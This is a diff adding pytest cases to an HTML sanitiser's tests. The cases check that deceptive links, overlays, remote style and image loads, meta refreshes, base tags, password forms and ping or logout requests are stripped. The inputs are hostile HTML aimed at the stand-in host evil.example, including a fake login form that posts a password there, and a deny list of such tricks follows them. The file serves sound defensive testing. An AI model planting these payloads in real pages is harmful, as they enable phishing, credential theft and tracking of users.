@@ -88,6 +88,45 @@ def test_what_is_harmless_stays() -> None:
     assert '<td colspan="2" bgcolor="#fff">x</td>' in cleaned
 
 
+@pytest.mark.parametrize(
+    ("written", "kept"),
+    [
+        ("https://bank.example@evil.example/a@b", "https://evil.example/a@b"),
+        ("http://bank.example:443\t@a@evil.example?x=@", "http://evil.example?x=@"),
+        ("HTTPS:\\\\bank.example@evil.example", "HTTPS:\\\\evil.example"),
+        ("https://example.org/@ann", "https://example.org/@ann"),
+        ("mailto:ann@example.org", "mailto:ann@example.org"),
+    ],
+)
+def test_no_link_has_a_name_in_the_place_of_the_host(written: str, kept: str) -> None:
+    page = f'<a href="{written}">Your bank</a>'
+    assert f'href="{kept}"' in clean(page, {}, images=False).html
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<div style="position:fixed;top:0;left:0;z-index:9;background:#fff">',
+        '<p style="background-image:url(https://evil.example/a)">',
+        '<p style="color:red;background:u\\72l(//evil.example)">',
+        "<style>@import url(//evil.example/a.css);body{display:none}</style>",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+        '<base href="https://evil.example/">',
+        '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
+        '<input formaction="https://evil.example"><button form="f">',
+        '<a href="https://example.org" target="_top" ping="https://evil.example" onclick="x()">a</a>',
+        '<link rel="stylesheet" href="//evil.example/a.css"><img srcset="//evil.example/a 2x">',
+        '<table background="//evil.example/a"><img src="//evil.example/a"><img src="/logout">',
+        '<a href="/logout">a</a><a href="//evil.example">b</a><a href="javascript:evil.example">c</a>',
+    ],
+)
+def test_nothing_covers_sends_or_loads_anything(page: str) -> None:
+    cleaned = clean(page, {}, images=False).html
+    for trick in ("position", "evil.example", "url(", "<meta", "<form", "<input", "logout", "_top"):
+        assert trick not in cleaned, (trick, cleaned)
+    assert "<a" not in cleaned or 'rel="noopener noreferrer nofollow"' in cleaned
+
+
 def test_pictures_elsewhere_are_counted_and_shown_on_request() -> None:
     page = '<img src="https://example.org/a.png" alt="a"><img src="HTTP://example.org/b">'
     blocked = clean(page, {}, images=False)
